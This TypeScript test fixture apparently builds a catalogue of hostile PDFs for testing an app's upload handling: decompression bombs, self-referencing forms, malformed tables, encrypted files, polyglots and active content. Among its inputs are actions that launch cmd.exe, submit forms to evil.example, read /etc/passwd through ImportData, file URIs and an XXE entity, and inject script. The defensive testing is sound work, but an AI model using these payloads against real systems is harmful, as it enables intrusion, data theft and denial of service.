import { portfolioFileLimit } from '@fieldwork/core/portfolio/limits.ts'
import { jpeg, lyingJpeg } from '../testing-jpeg.ts'
import { brokenPdfs } from './testing-brokenPdfs.ts'
import { deflated, type HostilePdf, pdf, talkativePdf } from './testing-pdf.ts'

/* PDFs that want memory, time, a password, a program to run, or the app with them. */

const text = (words: string) => Buffer.from(words, 'latin1')
/** Changes the words of a PDF, whatever that does to the places that its table names. */
const changed = (from: string | RegExp, to: string, source = pdf()) => text(source.toString('latin1').replace(from, () => to))
const filled = (start: string, part: string) =>
  Buffer.concat([text(start), Buffer.alloc(portfolioFileLimit - start.length, part, 'latin1')])
const zeros = Buffer.alloc(1_000_000_000)
const showing = '/Resources << /XObject << /I 5 0 R >> >>'
const withImage = (dictionary: string, stream: Buffer, times?: number) =>
  pdf({
    content: { stream: 'q 300 0 0 400 0 0 cm /I Do Q' },
    page: showing,
    more: [
      times === undefined
        ? { dictionary: `/Type /XObject /Subtype /Image ${dictionary}`, stream }
        : deflated(stream, times, `/Type /XObject /Subtype /Image ${dictionary}`),
    ],
  })

const images: HostilePdf[] = [
  ...['DeviceCMYK'].flatMap((colour) =>
    [5_000, 60_000].map((side): HostilePdf => ({
      name: `an image of ${side} x ${side}, ${colour}`,
      make: () => withImage(`/Width ${side} /Height ${side} /ColorSpace /${colour} /BitsPerComponent 8`, zeros, 2),
    })),
  ),
  ...['CCITTFaxDecode', 'JBIG2Decode', 'JPXDecode', 'RunLengthDecode', 'LZWDecode', 'ASCII85Decode', 'ASCIIHexDecode'].map(
    (filter): HostilePdf => ({
      name: `an image of 20000 x 20000 by ${filter} that holds nothing`,
      make: () =>
        withImage(
          `/Width 20000 /Height 20000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /${filter} /DecodeParms << /Columns 20000 /Rows 20000 /K -1 >>`,
          Buffer.alloc(2_000, 0x37),
        ),
    }),
  ),
  {
    name: 'a JPG that says it is 65535 x 65535',
    make: async () =>
      withImage(
        '/Width 65535 /Height 65535 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode',
        lyingJpeg(await jpeg(300, 200), 65_535, 65_535),
      ),
  },
  {
    name: 'an image with negative sides',
    make: () => withImage('/Width -1 /Height -2147483648 /ColorSpace /DeviceRGB /BitsPerComponent 8', Buffer.alloc(100), 1),
  },
  {
    name: 'an image whose mask is itself',
    make: () => withImage('/Width 50 /Height 50 /ColorSpace /DeviceRGB /BitsPerComponent 8 /SMask 5 0 R', Buffer.alloc(7_500), 1),
  },
]

const bombs: HostilePdf[] = [
  ...[1, 2, 3, 10].map((times): HostilePdf => ({
    name: `a page of a gigabyte, compressed ${times} times`,
    make: () => pdf({ content: deflated(zeros, times) }),
    status: 200,
  })),
  {
    name: 'a page of a million million lines',
    make: () => pdf({ content: deflated(Buffer.alloc(200_000_000, '0 0 m 9 9 l S\n'), 2) }),
    status: 200,
  },
  {
    name: 'forms that each draw the next one twice',
    make: () =>
      pdf({
        content: { stream: '/X5 Do' },
        page: '/Resources << /XObject << /X5 5 0 R >> >>',
        more: Array.from({ length: 30 }, (_, index) => ({
          dictionary: `/Type /XObject /Subtype /Form /BBox [0 0 300 400] /Resources << /XObject << /X${index + 6} ${index === 29 ? 5 : index + 6} 0 R >> >>`,
          stream: `/X${index + 6} Do /X${index + 6} Do 0 0 10 10 re f`,
        })),
      }),
    status: 200,
  },
  {
    name: 'a form that draws itself',
    make: () =>
      pdf({
        content: { stream: '/I Do' },
        page: showing,
        more: [{ dictionary: `/Type /XObject /Subtype /Form /BBox [0 0 9 9] ${showing}`, stream: '/I Do /I Do' }],
      }),
  },
  {
    name: 'a pattern made of itself',
    make: () =>
      pdf({
        content: { stream: '/Pattern cs /P scn 0 0 300 400 re f' },
        page: '/Resources << /Pattern << /P 5 0 R >> >>',
        more: [
          {
            dictionary:
              '/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.001 /YStep 0.001 /Resources << /Pattern << /P 5 0 R >> >>',
            stream: '/Pattern cs /P scn 0 0 1 1 re f',
          },
        ],
      }),
  },
  {
    name: 'a shading of a sampled function with 2^31 samples',
    make: () =>
      pdf({
        content: { stream: '/S sh' },
        page: '/Resources << /Shading << /S << /ShadingType 1 /ColorSpace /DeviceRGB /Function 5 0 R >> >> >>',
        more: [
          {
            dictionary: '/FunctionType 0 /Domain [0 1 0 1] /Range [0 1 0 1 0 1] /Size [46340 46340] /BitsPerSample 32',
            stream: Buffer.alloc(100),
          },
        ],
      }),
  },
  {
    name: 'a function that never ends',
    make: () =>
      pdf({
        content: { stream: '/S sh' },
        page: '/Resources << /Shading << /S << /ShadingType 1 /ColorSpace /DeviceGray /Function 5 0 R >> >> >>',
        more: [
          {
            dictionary: '/FunctionType 4 /Domain [0 1 0 1] /Range [0 1]',
            stream: `{ ${'dup '.repeat(100_000)} }`,
          },
        ],
      }),
  },
  ...['TrueType', 'Type1', 'Type0', 'Type3', 'MMType1'].map((kind): HostilePdf => ({
    name: `a font of garbage, ${kind}`,
    make: () =>
      pdf({
        page: `/Resources << /Font << /F1 << /Type /Font /Subtype /${kind} /BaseFont /Evil /FirstChar 0 /LastChar 2147483647 /Widths [] /Encoding 6 0 R /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Evil /FontDescriptor << /Type /FontDescriptor /FontFile2 5 0 R >> >>] /FontDescriptor << /Type /FontDescriptor /FontFile 5 0 R /FontFile2 5 0 R /FontFile3 5 0 R >> /CharProcs << /a 4 0 R >> /FontMatrix [1e30 0 0 1e30 0 0] /FontBBox [0 0 0 0] >> >> >>`,
        more: [
          { dictionary: '/Length1 2147483647', stream: Buffer.from(Array.from({ length: 5_000 }, (_, index) => (index * 7_919) % 251)) },
          { dictionary: '/Type /CMap /UseCMap 6 0 R', stream: '0 begincodespacerange <00> <ffffffff> endcodespacerange' },
        ],
      }),
  })),
]

const boxes: HostilePdf[] = [
  '0 0 0 0',
  '0 0 -300 -400',
  '0 0 1e30 1e30',
  '0 0 0.000001 30000000',
  '0 0 30000000 0.000001',
  'a b c d',
  '',
].map((box) => ({ name: `a page of [${box}]`, make: () => pdf({ box }), status: 200 }))

const structures: HostilePdf[] = [
  ...[
    ['/Kids [3 0 R] /Count 1', '/Kids [2 0 R] /Count 1'],
    ['/Count 1', '/Count 2147483647'],
    ['/Count 1', '/Count -5'],
    ['/Kids [3 0 R]', '/Kids [null]'],
    ['/Kids [3 0 R]', '/Kids 3 0 R'],
    ['/Pages 2 0 R', '/Pages 1 0 R'],
    ['/Parent 2 0 R', '/Parent 3 0 R'],
    ['/Contents 4 0 R', '/Contents [4 0 R 3 0 R 4 0 R]'],
    ['/Size 5', '/Size 2147483647'],
    ['/Size 5', '/Size -1'],
    ['/Root 1 0 R', '/Root 4 0 R'],
    ['/Root 1 0 R', '/Root 1 0 R /Prev 9'],
    ['/Root 1 0 R', '/Root 99 0 R'],
    ['xref\n0 5', 'xref\n0 2147483647'],
    ['xref\n0 5', 'xref\n4294967295 5'],
    ['startxref\n', 'startxref\n99999999999999999999'],
    ['startxref', 'startxxxx'],
    ['trailer', 'trailre'],
    ['/Length 42', '/Length 2147483647'],
    ['/Length 42', '/Length -1'],
    ['/Length 42', '/Length 4 0 R'],
    ['%%EOF', ''],
    ['%PDF-1.7', '%PDF-9.9'],
  ].map(([from, to]): HostilePdf => ({ name: `${to || 'nothing'} for ${from}`, make: () => changed(from!, to!) })),
  { name: 'a table that is its own predecessor', make: () => changed('/Root 1 0 R', `/Root 1 0 R /Prev ${pdf().lastIndexOf('xref\n0')}`) },
  ...['[', '<<', '(', '<'].map((bracket): HostilePdf => ({
    name: `a million times ${bracket}`,
    make: () => pdf({ page: `/A ${bracket.repeat(1_000_000)}` }),
  })),
  { name: 'a number of a million digits', make: () => pdf({ page: `/A ${'9'.repeat(1_000_000)}` }) },
  { name: 'a name of a million letters', make: () => pdf({ page: `/${'A'.repeat(1_000_000)} 1` }) },
  { name: '100,000 objects', make: () => pdf({ more: Array.from({ length: 100_000 }, () => '<< /A [1 2 3] >>') }), status: 200 },
  {
    name: 'a stream of objects that says it has 2^31',
    make: () =>
      pdf({
        catalogue: '/Names 9 0 R',
        more: [{ dictionary: '/Type /ObjStm /N 2147483647 /First 10 /Extends 5 0 R', stream: '9 0 << >>' }],
      }),
  },
  {
    name: 'a table in a stream of a gigabyte',
    make: () => {
      const stream = deflated(zeros, 2, '/Type /XRef /Size 200000000 /W [1 2 2] /Root 1 0 R')
      return pdf({ more: [stream] })
    },
  },
]

const large: HostilePdf[] = [
  { name: '50 MB of beginnings', make: () => filled('%PDF-1.7\n', '%PDF-1.7\n') },
  { name: '50 MB of zeros', make: () => filled('%PDF-1.7\n', '\0') },
  { name: '50 MB of objects that never end', make: () => filled('%PDF-1.7\n', '1 0 obj\n') },
  { name: '50 MB of brackets', make: () => filled('%PDF-1.7\n1 0 obj\n', '[') },
  { name: '50 MB of dictionaries', make: () => filled('%PDF-1.7\n1 0 obj\n', '<</A ') },
  { name: '50 MB of tables', make: () => filled('%PDF-1.7\n', 'xref\n0 1\n0000000000 65535 f \n') },
  { name: '50 MB of empty objects', make: () => filled(pdf().toString('latin1'), '7 0 obj\n<<>>\nendobj\n') },
]

const locked: HostilePdf[] = [
  ...[1, 2, 4, 5].map((version): HostilePdf => ({
    name: `a password, version ${version}`,
    make: () =>
      pdf({
        trailer: `/ID [<00><00>] /Encrypt << /Filter /Standard /V ${version} /R ${version === 1 ? 2 : version === 2 ? 3 : version} /Length 128 /P -44 /O <${'61'.repeat(version === 5 ? 48 : 32)}> /U <${'62'.repeat(version === 5 ? 48 : 32)}> /OE <${'63'.repeat(32)}> /UE <${'64'.repeat(32)}> /Perms <${'65'.repeat(16)}> /CF << /StdCF << /AuthEvent /DocOpen /CFM /AESV2 /Length 16 >> >> /StmF /StdCF /StrF /StdCF >>`,
      }),
    status: 415,
  })),
  { name: 'a lock of its own making', make: () => pdf({ trailer: '/Encrypt << /Filter /Evil /V 99 >>' }), status: 415 },
]

const active: HostilePdf[] = [
  { name: 'programs, files inside, a program to launch', make: talkativePdf, status: 200 },
  ...[
    '/S /JavaScript /JS (while\\(true\\);)',
    '/S /Launch /Win << /F (cmd.exe) /P (/c calc) >>',
    '/S /SubmitForm /F (https://evil.example/)',
    '/S /ImportData /F (/etc/passwd)',
    '/S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit]',
    '/S /URI /URI (javascript:alert\\(1\\))',
    '/S /URI /URI (file:///etc/passwd)',
    '/S /Named /N /Print /Next 5 0 R',
  ].map((action): HostilePdf => ({
    name: `an action ${action}`,
    make: () =>
      pdf({ catalogue: '/OpenAction 5 0 R /AA << /WC 5 0 R >>', page: '/AA << /O 5 0 R >>', more: [`<< /Type /Action ${action} >>`] }),
    status: 200,
  })),
  {
    name: 'a form of XFA',
    make: () =>
      pdf({
        catalogue: '/AcroForm << /Fields [] /XFA [(template) 5 0 R] >>',
        more: [{ stream: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><template>&e;</template>' }],
      }),
    status: 200,
  },
  {
    name: 'a film that plays a program',
    make: () => pdf({ page: '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets << >> >> >>]' }),
    status: 200,
  },
]

const polyglots: HostilePdf[] = [
  ...['<script>alert(1)</script>', 'PK\x03\x04', 'MZ\x90\0', '\x7fELF', '\xff\xd8\xff', '\0'.repeat(2_000)].map((more): HostilePdf => ({
    name: `a PDF and ${JSON.stringify(more.slice(0, 6))}`,
    make: () => Buffer.concat([pdf(), text(more)]),
    status: 200,
  })),
  { name: 'a page of the web in its first line', make: () => changed('%PDF-1.7\n', '%PDF-1.7 <html><script>alert(1)</script>\n') },
  { name: 'a picture before it', make: async () => Buffer.concat([text('GIF89a'), pdf()]), status: 415 },
  { name: 'a program before it', make: () => Buffer.concat([text('MZ\x90\0'), pdf()]), status: 415 },
]

export const hostilePdfs: HostilePdf[] = [
  ...active,
  ...boxes,
  ...locked,
  ...polyglots,
  ...structures,
  ...brokenPdfs,
  ...images,
  ...bombs,
  ...large,
]
